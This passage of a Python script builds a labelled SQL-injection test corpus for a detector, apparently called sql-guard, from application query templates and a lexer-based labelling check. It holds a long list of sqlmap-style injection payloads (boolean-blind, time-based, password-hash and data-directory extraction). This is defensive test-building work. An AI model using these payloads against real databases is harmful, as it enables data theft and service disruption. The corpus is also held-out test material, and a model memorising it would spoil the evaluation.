#!/usr/bin/env python3
"""Fifth, held-out-style SQL-injection corpus for sql-guard: fresh.jsonl.gz.

Python 3.11 standard library only; fixed seed; gzip mtime 0, so

    python3 crates/sql-guard/tests/data/make_fresh.py

rewrites fresh.jsonl.gz byte for byte (``parses`` values are then taken from
the existing file; ``--pg-port PORT`` recomputes them, see below).

Made after dev, generalization, blind and holdout had all become tuning
targets, by a helper who read only the format/method parts of
``tests/data/README.md``, ``make_holdout.py`` and ``make_blind.py`` (for the
format and the labelling method), never the guard's source or its test rules,
and never tuned against its score.  Rows:

* application templates ``fr01``..``fr46`` (no name or statement shared with
  the other four corpora), one to three input slots each, filled with
  - sqlmap-style payloads (boolean blind, time based, error based, UNION
    query, stacked queries, inline queries; PostgreSQL and other DBMSes, as
    sqlmap sends them) wrapped in sqlmap-like boundaries (prefix/suffix
    pairs, right and wrong closing sequences, comment styles),
  - hand-written PostgreSQL techniques (written fresh for this file),
  - benign tricky inputs escaped correctly for their slot;
* hand-written complex benign statements (``fx_*``), each filled a few times,
  and a few statements in the style of PostgreSQL's regression tests
  (family ``pg_regress``).

Label: a small PostgreSQL lexer (the one of make_holdout.py; standard
conforming strings on) checks each slot.  A row is ``attack`` only when the
input is not the single token its slot expects; attack strings that stay
inside their literal are benign ``contained_attack_string`` rows; attack
strings the application escaped correctly are benign
``escaped_attack_string`` rows.  Rows whose statement text occurs in one of
the other four corpora are skipped.

``parses``: with ``--pg-port PORT`` (a throwaway PostgreSQL 15 listening on
a unix socket in /tmp) every statement is sent as ``SELECT 1/0;`` +
statement in one simple-protocol query: the server parses the whole text
before running anything, so a division-by-zero error means the statement
parsed and any other error means it did not; nothing of the statement runs.
"""
import collections
import gzip
import io
import json
import os
import random
import re
import subprocess
import sys

SEED = 5_2203_2026
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "fresh.jsonl.gz")
OTHER_CORPORA = ["dev.jsonl.gz", "generalization.jsonl.gz", "blind.jsonl.gz", "holdout.jsonl.gz"]

# ---------------------------------------------------------------------------
# Lexer
# ---------------------------------------------------------------------------
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from sqli_lex import DOLLAR_TAG, ID_CONT, ID_START, NUMBER, OPCH, WS, lex  # noqa: E402,F401


BAD_COL_WORDS = {"select", "union", "from", "where", "and", "or", "limit", "offset", "having",
                 "group", "order", "case", "when", "then", "else", "end", "into", "not"}


def slot_ok(sql, toks, kind, a, b, open_pos, close_len):
    """Is sql[a:b] exactly the one token its slot expects?"""
    if kind in ("str", "estr", "ident", "dollar"):
        want = {"str": "str", "estr": "estr", "ident": "qident", "dollar": "dollar"}[kind]
        for t in toks:
            if t[1] == open_pos:
                return t[0] == want and t[2] == b + close_len
        return False
    inner = [t for t in toks if t[1] < b and t[2] > a]
    if not inner or inner[0][1] != a or inner[-1][2] != b:
        return False
    sig = [t for t in inner if t[0] != "ws"]
    if kind == "num":
        return len(sig) == 1 and sig[0][0] == "num"
    if kind == "numlist":
        if not sig or len(sig) % 2 == 0:
            return False
        for k, t in enumerate(sig):
            if k % 2 == 0 and t[0] != "num":
                return False
            if k % 2 == 1 and sql[t[1]:t[2]] != ",":
                return False
        return True
    if any(t[0] not in ("word", "qident") for t in sig):
        return False
    words = [sql[t[1]:t[2]].lower() for t in sig]
    if kind == "dir":
        return words in (["asc"], ["desc"])
    if kind == "col":
        if not words or words[0] in BAD_COL_WORDS:
            return False
        rest = words[1:]
        if rest[:1] in (["asc"], ["desc"]):
            rest = rest[1:]
        if rest in (["nulls", "first"], ["nulls", "last"]):
            rest = []
        return rest == []
    raise ValueError(kind)



# ---------------------------------------------------------------------------
# Templates.  Slots are written {name:kind}; a name may repeat (same input).
# kinds: str estr ident dollar num numlist col dir.  close: the right
# closing sequence for a quoted slot (a dict gives one per slot); reopen:
# what rebalances the rest after that close (sqlmap-style suffix); like=True
# for LIKE/ILIKE/SIMILAR TO patterns; vals: benign inputs for a slot
# (family, [values]) used besides the generic pools.
# ---------------------------------------------------------------------------
SLOT_RE = re.compile(r"\{(\w+):(\w+)\}")
TEMPLATES = []


def tpl(name, sql, close="'", reopen=" AND 'z'='z", like=False, vals=None, generic=True):
    slots = []
    for m in SLOT_RE.finditer(sql):
        if m.group(1) not in [s[0] for s in slots]:
            slots.append((m.group(1), m.group(2)))
    TEMPLATES.append(dict(name=name, sql=sql, slots=slots, close=close, reopen=reopen, like=like,
                          vals=vals or {}, generic=generic))


def close_of(t, slot):
    c = t["close"]
    return c.get(slot, "'") if isinstance(c, dict) else c


def reopen_of(t, slot):
    r = t["reopen"]
    return r.get(slot, "") if isinstance(r, dict) else r


DAY = ("input_formatted", ["2025-03-03", "2024-12-30", "2026-01-05", "2025-09-29", "2025-W10-1", "March 3, 2025", "2025/06/02"])
STAMP = ("input_formatted", ["2025-04-01 08:00", "2025-04-01T08:00:00+02", "2024-11-15 00:00:00 UTC", "today", "2025-04-30 23:59:59.999", "epoch"])
NUMSTR = ("input_numeric_string", ["1042", "000123", " 77 ", "9007199254740993", "+15", "3e3", "12.0", "-0"])

tpl("fr01_invoice_by_account",
    "SELECT inv.number, inv.total_cents, inv.currency FROM billing.invoices inv WHERE inv.account_ref = '{acct:str}' AND inv.voided = false ORDER BY inv.issued_on DESC",
    vals={"acct": ("input_formatted", ["ACC-000917", "acc_7781", "DE-4410-22", "A/2025/0042", "acct#19"])})
tpl("fr02_staff_login_crypt",
    "SELECT e.id, e.display_name, e.is_manager FROM hr.staff_logins e WHERE e.email = lower('{email:str}') AND e.pw_hash = crypt('{pw:str}', e.pw_hash) LIMIT 1",
    close="')", reopen=" AND ('z'='z",
    vals={"email": ("input_url_email", ["m.okafor@corp.example", "Ana.Lima@Corp.Example", "o'connor.j@corp.example", "ops+alerts@corp.example"]),
          "pw": ("input_punctuation", ["Tr0ub4dor&3", "correct horse battery staple", "p@ss'w0rd", "--secret--", "a\\b\\c", "\"quoted\"pw", "1=1pass"])})
tpl("fr03_gamer_login_sha256",
    "SELECT player_id, clan_id FROM game_accounts WHERE nickname = '{nick:str}' AND password_sha256 = encode(sha256(convert_to('{pw:str}' || salt, 'UTF8')), 'hex')",
    close={"nick": "'", "pw": "' || salt, 'UTF8')), 'hex')"}, reopen={"nick": " AND 'z'='z", "pw": " AND ('z'='z"},
    vals={"nick": ("input_punctuation", ["xX_Sn1per_Xx", "[CLAN]Leader", "~mage~", "null_ptr", "Dr.Who?", "ÆON"]),
          "pw": ("input_punctuation", ["hunter2", "' or '' = '", "pw;drop", "Pa$$w0rd!", "}{][", "%%%"])})
tpl("fr04_shipment_tracking",
    "SELECT status, last_scan_at, hub_code FROM logistics.shipments WHERE tracking_no = upper('{trk:str}')",
    close="')", reopen=" AND ('z'='z",
    vals={"trk": ("input_formatted", ["1Z999AA10123456784", "JD014600006281525241", "lx123456789cn", "9400 1000 0000 0000 0000 00", "DHL-55-0091"])})
tpl("fr05_patient_name_prefix",
    "SELECT mrn, family_name, given_name, birth_date FROM ehr.patients WHERE family_name ILIKE '{q:str}%' AND clinic_id = 12 ORDER BY family_name, given_name LIMIT 25",
    like=True, reopen=" AND 'z%'='z")
tpl("fr06_cms_headline_similar",
    "SELECT slug, headline FROM cms_articles WHERE headline SIMILAR TO '%{q:str}%' AND state = 'published' ORDER BY published_at DESC",
    like=True, reopen=" AND '%'='")
tpl("fr07_chat_history_sort",
    "SELECT id, sender_id, body, sent_at FROM chat.messages WHERE room_id = 3301 ORDER BY {col:col} {dir:dir} FETCH FIRST 50 ROWS ONLY",
    close="", reopen="", vals={"col": ("input_identifier", ["sent_at", "sender_id", "id", "body", "\"Sent At\"", "edited_at", "\"order\""])})
tpl("fr08_search_hits_window",
    "SELECT doc_id, score FROM search_hits WHERE query_id = 77 ORDER BY score DESC OFFSET {off:num} ROWS FETCH FIRST {n:num} ROWS ONLY",
    close="", reopen="")
tpl("fr09_devices_in_list",
    "SELECT device_id, fw_version, last_seen FROM iot.devices WHERE device_id IN ({ids:numlist}) AND last_seen > now() - interval '1 day'",
    close=")", reopen=" AND (1=1")
tpl("fr10_hire_insert",
    "INSERT INTO hr.employees (first_name, last_name, dept_code, hired_on) VALUES ('{fn:str}', '{ln:str}', '{dept:str}', current_date)",
    close={"fn": "', 'x', 'OPS', current_date)", "ln": "', 'OPS', current_date)", "dept": "', current_date)"}, reopen=" || 'z",
    vals={"dept": ("input_plain", ["OPS", "FIN", "R&D", "HR-2", "Sales EMEA"])})
tpl("fr11_leaderboard_update",
    "UPDATE leaderboard SET best_score = greatest(best_score, {score:num}), updated_at = now() WHERE player_id = {pid:num} AND season = '2025-S3'",
    close="", reopen="")
tpl("fr12_cms_page_delete",
    "DELETE FROM cms_pages WHERE site_id = 4 AND path = '{path:str}' RETURNING id, path",
    vals={"path": ("input_url_email", ["/about-us", "/blog/2025/05/hello-world", "/search?q=drop+table", "/docs/v2/#install", "/café/menü", "/a/../b"])})
tpl("fr13_sensor_upsert",
    "INSERT INTO iot.sensor_latest (sensor_uid, reading, seen_at) VALUES ('{uid:str}', {val:num}, now()) ON CONFLICT (sensor_uid) DO UPDATE SET reading = EXCLUDED.reading, seen_at = EXCLUDED.seen_at",
    close={"uid": "', 0, now())"}, reopen={"uid": " || 'z"},
    vals={"uid": ("input_formatted", ["th-0042", "AC:DE:48:00:11:22", "sensor/7/temp", "urn:dev:ow:10e2073a01080063", "b8:27:eb:aa:01:ff"])})
tpl("fr14_merge_stock",
    "MERGE INTO wms.stock s USING (SELECT '{sku:str}'::text AS sku, {qty:num} AS qty) v ON s.sku = v.sku WHEN MATCHED THEN UPDATE SET on_hand = s.on_hand + v.qty WHEN NOT MATCHED THEN INSERT (sku, on_hand) VALUES (v.sku, v.qty)",
    close={"sku": "'::text AS sku, 1 AS qty)"}, reopen={"sku": " || 'z"},
    vals={"sku": ("input_formatted", ["SKU-1001", "wid/44-b", "PALLET#9", "A1-B2-C3", "x.y.z"])})
tpl("fr15_observation_category",
    "SELECT id, observation->>'code' AS code FROM ehr.observations WHERE patient_id = 8812 AND observation->'category'->>0 = '{cat:str}'",
    vals={"cat": ("input_plain", ["vital-signs", "laboratory", "imaging", "social-history", "exam"])})
tpl("fr16_jsonpath_query",
    "SELECT jsonb_path_query(doc, '{path:str}') AS v FROM analytics.raw_events WHERE source = 'web' LIMIT 100",
    close="')", reopen=" AND ('z'='z",
    vals={"path": ("input_formatted", ["$.user.id", "$.items[*].price", "$.tags[0]", "$ ? (@.score > 10)", "strict $.a.b", "$.**.name", "$.name ? (@ == \"O'Neil\")", "lax $.x.size()"])})
tpl("fr17_block_props_contains",
    "SELECT id, kind FROM cms.blocks WHERE props @> '{{\"variant\": \"{v:str}\"}}'::jsonb ORDER BY position",
    vals={"v": ("input_plain", ["hero", "two-column", "dark", "cta_large", "grid 3x3"])})
tpl("fr18_kb_tag_any",
    "SELECT id, title FROM kb_articles WHERE '{tag:str}' = ANY(tags) ORDER BY updated_at DESC")
tpl("fr19_match_players_overlap",
    "SELECT id, started_at FROM game_matches WHERE player_ids && ARRAY[{p1:num}, {p2:num}]::bigint[] ORDER BY started_at DESC",
    close="]", reopen=" AND ARRAY[1]=ARRAY[1")
tpl("fr20_room_booking_range",
    "SELECT room_id FROM bookings WHERE during && tstzrange('{t0:str}', '{t1:str}', '[)') AND NOT cancelled",
    close={"t0": "', now(), '[)')", "t1": "', '[)')"}, reopen=" AND ('z'='z", vals={"t0": STAMP, "t1": STAMP})
tpl("fr21_pricing_tier_range",
    "SELECT tier, unit_price FROM pricing_tiers WHERE qty_range @> {q:num}::int4 ORDER BY tier",
    close="", reopen="")
tpl("fr22_messages_per_bucket",
    "SELECT date_trunc('{unit:str}', created_at) AS bucket, count(*) FROM chat.messages WHERE created_at > now() - interval '30 days' GROUP BY 1 ORDER BY 1",
    close="', created_at)", reopen=" AND ('z'='z",
    vals={"unit": ("input_plain", ["day", "week", "month", "hour", "quarter", "minute", "DAY"])})
tpl("fr23_alerts_since_interval",
    "SELECT id, device_id, severity FROM iot.alerts WHERE raised_at > now() - '{span:str}'::interval AND acknowledged = false",
    vals={"span": ("input_formatted", ["15 minutes", "2 hours", "1 day", "P1DT2H", "1 week 2 days", "00:30:00", "1 mon"])})
tpl("fr24_renewals_due",
    "SELECT id, plan_code FROM billing.subscriptions WHERE renews_on < current_date + {days:num} * interval '1 day' AND auto_renew",
    close="", reopen="")
tpl("fr25_manager_chain",
    "WITH RECURSIVE chain AS (SELECT id, manager_id, full_name, 1 AS depth FROM hr.employees WHERE id = {eid:num} UNION ALL SELECT e.id, e.manager_id, e.full_name, c.depth + 1 FROM hr.employees e JOIN chain c ON e.id = c.manager_id) SELECT full_name, depth FROM chain ORDER BY depth",
    close="", reopen="")
tpl("fr26_temp_delta_window",
    "SELECT ts, temp_c, temp_c - lag(temp_c) OVER (ORDER BY ts) AS delta FROM iot.readings WHERE sensor_uid = '{uid:str}' AND ts >= now() - interval '6 hours' ORDER BY ts")
tpl("fr27_customer_last_orders",
    "SELECT c.id, c.company, o.total FROM crm_customers c LEFT JOIN LATERAL (SELECT total FROM billing.orders WHERE customer_id = c.id ORDER BY placed_at DESC LIMIT {k:num}) o ON true WHERE c.segment = '{seg:str}'",
    close={"seg": "'"}, reopen={"seg": " AND 'z'='z", "k": ""},
    vals={"seg": ("input_plain", ["SMB", "enterprise", "public sector", "edu", "startup"])})
tpl("fr28_top_price_subquery",
    "SELECT sku, price FROM catalog.prices p WHERE price = (SELECT max(price) FROM catalog.prices WHERE category = '{cat:str}') AND region = 'eu'",
    close="')", reopen=" AND ('z'='z")
tpl("fr29_ticket_close_returning",
    "UPDATE helpdesk.tickets SET status = '{st:str}', closed_by = {agent:num} WHERE id = 55120 RETURNING id, status, closed_at",
    close={"st": "'"}, reopen={"st": ", priority = 'z"},
    vals={"st": ("input_plain", ["closed", "resolved", "won't fix", "duplicate", "pending-customer"])})
tpl("fr30_payment_cast_bigint",
    "SELECT id, amount_cents, status FROM billing.payments WHERE id = CAST('{pid:str}' AS bigint)",
    close="' AS bigint)", reopen=" AND (CAST('1' AS int)=1", vals={"pid": NUMSTR})
tpl("fr31_parcels_heavier",
    "SELECT order_id, weight_kg FROM logistics.parcels WHERE weight_kg > {w:num}::numeric(8,3) ORDER BY weight_kg DESC",
    close="", reopen="")
tpl("fr32_kpi_metric_column",
    "SELECT ts, \"{metric:ident}\" FROM analytics.kpi_daily WHERE ts >= date '2025-01-01' ORDER BY ts",
    close='"', reopen="")
tpl("fr33_tenant_schema_audit",
    "SELECT count(*) FROM \"{schema:ident}\".audit_log WHERE happened_at > now() - interval '1 day'",
    close='"', reopen="")
tpl("fr34_copy_export_file",
    "COPY (SELECT id, email FROM newsletter.subscribers WHERE confirmed) TO '/var/exports/{fname:str}' WITH (FORMAT csv, HEADER)",
    reopen="", vals={"fname": ("input_formatted", ["subs-2025-05.csv", "weekly report.csv", "O'Neil list.csv", "export_01.csv", "ünïcode.csv", "a;b.csv"])})
tpl("fr35_set_config_tenant",
    "SELECT set_config('app.tenant_slug', '{slug:str}', false)",
    close="', false)", reopen=" AND ('z'='z",
    vals={"slug": ("input_plain", ["acme", "globex-eu", "tenant_42", "initech", "o-reilly"])})
tpl("fr36_set_lock_timeout",
    "SET LOCAL lock_timeout = '{lt:str}'", reopen="",
    vals={"lt": ("input_numeric_string", ["5s", "250ms", "0", "1min", "1500", "2 s"])})
tpl("fr37_notify_order_event",
    "NOTIFY order_events, '{payload:str}'", reopen="")
tpl("fr38_pg_notify_room",
    "SELECT pg_notify('chat_room_' || {room:num}, '{msg:str}')",
    close={"msg": "')"}, reopen={"msg": " AND ('z'='z", "room": ""})
tpl("fr39_listen_channel",
    "LISTEN \"{chan:ident}\"", close='"', reopen="")
tpl("fr40_template_body_dollar",
    "INSERT INTO cms.templates (name, body) VALUES ('footer', $tpl${body:dollar}$tpl$) ON CONFLICT (name) DO UPDATE SET body = EXCLUDED.body",
    close="$tpl$", reopen="")
tpl("fr41_chat_line_estr",
    "INSERT INTO chat.messages (room_id, sender_id, body) VALUES (3301, 17, E'{body:estr}') RETURNING id, sent_at",
    close="')", reopen=", E'z")
tpl("fr42_sales_by_dimension",
    "SELECT {dim:col}, sum(revenue_cents) AS revenue FROM analytics.sales_fact WHERE sold_on >= date_trunc('quarter', current_date) GROUP BY {dim:col} ORDER BY revenue DESC LIMIT {n:num}",
    close="", reopen="", vals={"dim": ("input_identifier", ["region", "channel", "product_line", "\"Sales Rep\"", "store_id", "sold_on"])})
tpl("fr43_docs_plainto_tsquery",
    "SELECT id, title, ts_headline('english', body, plainto_tsquery('english', '{q:str}')) FROM search.documents WHERE tsv @@ plainto_tsquery('english', '{q:str}') ORDER BY ts_rank(tsv, plainto_tsquery('english', '{q:str}')) DESC LIMIT 10",
    close="')", reopen=" AND ('z'='z")
tpl("fr44_timesheet_delete",
    "DELETE FROM hr.timesheets WHERE employee_id = {emp:num} AND week_start = '{wk:str}'::date AND NOT approved",
    close={"wk": "'::date"}, reopen={"wk": " AND 'z'='z", "emp": ""}, vals={"wk": DAY})
tpl("fr45_inventory_not_banned",
    "SELECT item_code, qty FROM game_inventory WHERE player_id = {pid:num} AND item_code NOT IN (SELECT item_code FROM banned_items WHERE reason = '{why:str}')",
    close={"why": "')"}, reopen={"why": " AND ('z'='z", "pid": ""})
tpl("fr46_shipments_status_array",
    "SELECT tracking_no, status FROM logistics.shipments WHERE status = ANY('{{{st:str}}}'::text[]) AND depot_id = 9",
    close="}'::text[])", reopen=" AND ('z'='z",
    vals={"st": ("input_formatted", ["delivered,in_transit", "returned", "\"on hold\",lost", "out_for_delivery", "customs , held"])})

# ---------------------------------------------------------------------------
# Random helpers
# ---------------------------------------------------------------------------
R = random.Random(SEED)


def rnum():
    return str(R.randint(1000, 9999))


def rstr(k=4, alpha="abcdefghijklmnopqrstuvwxyz"):
    return "".join(R.choice(alpha) for _ in range(k))


def rmix(k=4):
    return rstr(k, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ")


def marker():
    return "q" + rstr(3) + "q"


def pg_chr(s):
    return "(" + "||".join(f"CHR({ord(c)})" for c in s) + ")"


def ms_char(s):
    return "+".join(f"CHAR({ord(c)})" for c in s)


def my_hex(s):
    return "0x" + "".join(f"{ord(c):02x}" for c in s)


def subst(v):
    """Fill sqlmap-like placeholders: [N] [N1] [N2] random numbers, [T] sleep
    time, [H] heavy count, [S] random string, [DS]/[DE] delimiters as plain
    text, [DSC]/[DEC] as CHR() chains, [DSH]/[DEH] hex, [DSM]/[DEM] CHAR()+."""
    n, n1, n2 = rnum(), rnum(), rnum()
    ds, de = marker(), marker()
    rep = {
        "[N]": n, "[N1]": n1, "[N2]": n2, "[T]": str(R.choice([5, 5, 5, 2, 4, 6, 9])),
        "[H]": R.choice(["5000000", "9000000", "20000000", "1000000"]), "[S]": rmix(4),
        "[DS]": ds, "[DE]": de, "[DSC]": pg_chr(ds), "[DEC]": pg_chr(de), "[DSH]": my_hex(ds), "[DEH]": my_hex(de),
        "[DSM]": ms_char(ds), "[DEM]": ms_char(de), "[K]": str(R.randint(1, 16)), "[A]": str(R.randint(47, 121)),
        "[SH]": my_hex(rmix(4)),
    }
    for k, val in rep.items():
        v = v.replace(k, val)
    return v


PG_QUERIES = [
    "current_user", "version()", "current_database()", "session_user", "inet_server_addr()::text",
    "(SELECT usename FROM pg_user OFFSET 1 LIMIT 1)", "(SELECT COUNT(*) FROM pg_namespace)::text",
    "(SELECT string_agg(datname,CHR(44)) FROM pg_database)",
    "(SELECT passwd FROM pg_shadow WHERE usename=CHR(97)||CHR(112)||CHR(112))",
    "(SELECT table_name FROM information_schema.tables WHERE table_schema=CHR(104)||CHR(114) OFFSET 2 LIMIT 1)",
    "current_setting(CHR(100)||CHR(97)||CHR(116)||CHR(97)||CHR(95)||CHR(100)||CHR(105)||CHR(114)||CHR(101)||CHR(99)||CHR(116)||CHR(111)||CHR(114)||CHR(121))",
]

# (technique, dbms, title, vector).  Vectors starting with "(" replace the
# value, "," extend an ORDER BY/GROUP BY item, ";" are stacked, the rest
# follow the (closed) value.  [V] is the original value; [Q] a data query.
SQLMAP = [
    # ---- boolean-based blind
    ("boolean", "generic", "AND boolean-based blind - WHERE or HAVING clause", "AND [N]=[N]"),
    ("boolean", "generic", "AND boolean-based blind - WHERE or HAVING clause (false)", "AND [N]=[N1]"),
    ("boolean", "generic", "OR boolean-based blind - WHERE or HAVING clause", "OR [N]=[N]"),
    ("boolean", "generic", "OR boolean-based blind - WHERE or HAVING clause (NOT)", "OR NOT [N]=[N1]"),
    ("boolean", "generic", "AND boolean-based blind - WHERE or HAVING clause (subquery - comment)", "AND [N]=(SELECT (CASE WHEN ([N]=[N]) THEN [N] ELSE (SELECT [N1] UNION SELECT [N2]) END))"),
    ("boolean", "generic", "OR boolean-based blind - WHERE or HAVING clause (subquery - comment)", "OR [N]=(SELECT (CASE WHEN ([N]=[N1]) THEN [N] ELSE (SELECT [N1] UNION SELECT [N2]) END))"),
    ("boolean", "generic", "Boolean-based blind - Parameter replace (original value)", "(SELECT (CASE WHEN ([N]=[N]) THEN [V] ELSE (SELECT [N1] UNION SELECT [N2]) END))"),
    ("boolean", "generic", "Boolean-based blind - Parameter replace (CASE)", "(CASE WHEN [N]=[N] THEN [N] ELSE NULL END)"),
    ("boolean", "generic", "Boolean-based blind - Parameter replace (DUAL)", "(CASE WHEN ([N]=[N]) THEN [N] ELSE [N]*(SELECT [N] FROM DUAL UNION SELECT [N1] FROM DUAL) END)"),
    ("boolean", "generic", "Generic boolean-based blind - Stacked queries", ";SELECT (CASE WHEN ([N]=[N]) THEN [N] ELSE [N]*(SELECT [N] UNION ALL SELECT [N1]) END)"),
    ("boolean", "PostgreSQL", "PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", "AND (SELECT (CASE WHEN ([N]=[N]) THEN NULL ELSE CAST(([DSC]) AS NUMERIC) END)) IS NULL"),
    ("boolean", "PostgreSQL", "PostgreSQL OR boolean-based blind - WHERE or HAVING clause (CAST)", "OR (SELECT (CASE WHEN ([N]=[N1]) THEN NULL ELSE CAST(('[S]') AS NUMERIC) END)) IS NULL"),
    ("boolean", "PostgreSQL", "PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES)", "(SELECT * FROM GENERATE_SERIES([N],[N],CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END) LIMIT 1)"),
    ("boolean", "PostgreSQL", "PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause", ",(SELECT (CASE WHEN ([N]=[N]) THEN 1 ELSE 1/(SELECT 0) END))"),
    ("boolean", "PostgreSQL", "PostgreSQL boolean-based blind - ORDER BY clause (original value)", ",(SELECT CASE WHEN [N]=[N] THEN [V] ELSE 1/(SELECT 0) END)"),
    ("boolean", "PostgreSQL", "PostgreSQL boolean-based blind - ORDER BY clause (GENERATE_SERIES)", ",(SELECT * FROM GENERATE_SERIES([N],[N],CASE WHEN ([N]=[N]) THEN 1 ELSE 0 END) LIMIT 1)"),
    ("boolean", "PostgreSQL", "PostgreSQL boolean-based blind - Stacked queries", ";SELECT (CASE WHEN ([N]=[N]) THEN [N] ELSE 1/(SELECT 0) END)"),
    ("boolean", "PostgreSQL", "PostgreSQL AND boolean-based blind - inference (ASCII/SUBSTRING)", "AND ASCII(SUBSTRING(([Q])::text FROM [K] FOR 1))>[A]"),
    ("boolean", "PostgreSQL", "PostgreSQL AND boolean-based blind - inference (LENGTH)", "AND LENGTH(COALESCE(CAST([Q] AS VARCHAR(10000))::text,(CHR(32))))>[K]"),
    ("boolean", "generic", "HAVING boolean-based blind - WHERE, GROUP BY clause", "HAVING [N]=[N]"),
    ("boolean", "MySQL", "MySQL RLIKE boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause", "RLIKE (SELECT (CASE WHEN ([N]=[N]) THEN [SH] ELSE 0x28 END))"),
    ("boolean", "MySQL", "MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (MAKE_SET)", "AND MAKE_SET([N]=[N],[N1])"),
    ("boolean", "MySQL", "MySQL OR boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (ELT)", "OR ELT([N]=[N1],[N1])"),
    ("boolean", "MySQL", "MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (UPDATEXML)", "AND UPDATEXML([N],CASE WHEN ([N]=[N]) THEN [N] ELSE 0x3A END,[N1])"),
    ("boolean", "MySQL", "MySQL boolean-based blind - Parameter replace (MAKE_SET)", "MAKE_SET([N]=[N],[N1])"),
    ("boolean", "Microsoft SQL Server", "Microsoft SQL Server/Sybase AND boolean-based blind - WHERE or HAVING clause (IIF)", "AND IIF([N]=[N],1,1/0)=1"),
    ("boolean", "Microsoft SQL Server", "Microsoft SQL Server/Sybase boolean-based blind - Parameter replace (original value)", "(SELECT (CASE WHEN ([N]=[N]) THEN [V] ELSE (SELECT [N1] UNION SELECT [N2]) END))"),
    ("boolean", "Oracle", "Oracle OR boolean-based blind - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "OR (SELECT (CASE WHEN ([N]=[N1]) THEN NULL ELSE CTXSYS.DRITHSX.SN(1,[N]) END) FROM DUAL) IS NULL"),
    ("boolean", "SQLite", "SQLite OR boolean-based blind - WHERE, HAVING, GROUP BY or HAVING clause (JSON)", "OR CASE WHEN [N]=[N1] THEN [N] ELSE JSON(CHAR([A],[A])) END"),
    ("boolean", "Informix", "Informix AND boolean-based blind - WHERE or HAVING clause", "AND [N]=(SELECT [N] FROM SYSMASTER:SYSDUAL WHERE [N]=[N])"),
    # ---- time-based blind
    ("time", "PostgreSQL", "PostgreSQL > 8.1 AND time-based blind", "AND [N]=(SELECT [N] FROM PG_SLEEP([T]))"),
    ("time", "PostgreSQL", "PostgreSQL > 8.1 OR time-based blind", "OR [N]=(SELECT [N] FROM PG_SLEEP([T]))"),
    ("time", "PostgreSQL", "PostgreSQL > 8.1 AND time-based blind (comment)", "AND [N]=(SELECT [N] FROM PG_SLEEP([T]))--"),
    ("time", "PostgreSQL", "PostgreSQL AND time-based blind (heavy query)", "AND [N]=(SELECT COUNT(*) FROM GENERATE_SERIES(1,[H]))"),
    ("time", "PostgreSQL", "PostgreSQL OR time-based blind (heavy query)", "OR [N]=(SELECT COUNT(*) FROM GENERATE_SERIES(1,[H]))"),
    ("time", "PostgreSQL", "PostgreSQL > 8.1 time-based blind - Parameter replace", "(SELECT [N] FROM PG_SLEEP([T]))"),
    ("time", "PostgreSQL", "PostgreSQL time-based blind - Parameter replace (heavy query)", "(SELECT COUNT(*) FROM GENERATE_SERIES(1,[H]))"),
    ("time", "PostgreSQL", "PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", ",(SELECT [N] FROM PG_SLEEP([T]))"),
    ("time", "PostgreSQL", "PostgreSQL time-based blind - ORDER BY, GROUP BY clause (heavy query)", ",(SELECT COUNT(*) FROM GENERATE_SERIES(1,[H]))"),
    ("time", "PostgreSQL", "PostgreSQL AND time-based blind - inference", "AND [N]=(CASE WHEN (ASCII(SUBSTRING(([Q])::text FROM [K] FOR 1))>[A]) THEN (SELECT [N] FROM PG_SLEEP([T])) ELSE [N] END)"),
    ("time", "MySQL", "MySQL >= 5.0.12 AND time-based blind (query SLEEP)", "AND (SELECT [N] FROM (SELECT(SLEEP([T])))[S])"),
    ("time", "MySQL", "MySQL >= 5.0.12 OR time-based blind (query SLEEP)", "OR (SELECT [N] FROM (SELECT(SLEEP([T])))[S])"),
    ("time", "MySQL", "MySQL >= 5.0.12 AND time-based blind (SLEEP)", "AND SLEEP([T])"),
    ("time", "MySQL", "MySQL >= 5.0.12 time-based blind - Parameter replace", "(CASE WHEN ([N]=[N]) THEN SLEEP([T]) ELSE [N] END)"),
    ("time", "MySQL", "MySQL < 5.0.12 OR time-based blind (BENCHMARK)", "OR [N]=BENCHMARK([H],MD5([SH]))"),
    ("time", "Microsoft SQL Server", "Microsoft SQL Server/Sybase time-based blind (IF - comment)", "IF([N]=[N]) WAITFOR DELAY '0:0:[T]'--"),
    ("time", "Microsoft SQL Server", "Microsoft SQL Server/Sybase OR time-based blind (heavy query)", "OR [N]=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,sysusers AS sys4,sysusers AS sys5)"),
    ("time", "Oracle", "Oracle OR time-based blind", "OR [N]=DBMS_PIPE.RECEIVE_MESSAGE(CHR(112)||CHR(113)||CHR(122)||CHR(120),[T])"),
    ("time", "Oracle", "Oracle AND time-based blind (heavy query)", "AND [N]=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4,ALL_USERS T5)"),
    ("time", "SQLite", "SQLite > 2.0 OR time-based blind (heavy query)", "OR [N]=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))"),
    ("time", "SAP MaxDB", "SAP MaxDB AND time-based blind (heavy query)", "AND [N]=(SELECT COUNT(*) FROM DOMAIN.DOMAINS AS T1,DOMAIN.COLUMNS AS T2,DOMAIN.TABLES AS T3)"),
    ("time", "Informix", "Informix AND time-based blind (heavy query)", "AND [N]=(SELECT COUNT(*) FROM SYSMASTER:SYSPAGHDR)"),
    ("time", "H2", "H2 AND time-based blind (heavy query)", "AND [N]=(SELECT COUNT(*) FROM INFORMATION_SCHEMA.SYSTEM_USERS AS T1,INFORMATION_SCHEMA.SYSTEM_USERS AS T2,INFORMATION_SCHEMA.SYSTEM_USERS AS T3)"),
    # ---- error-based
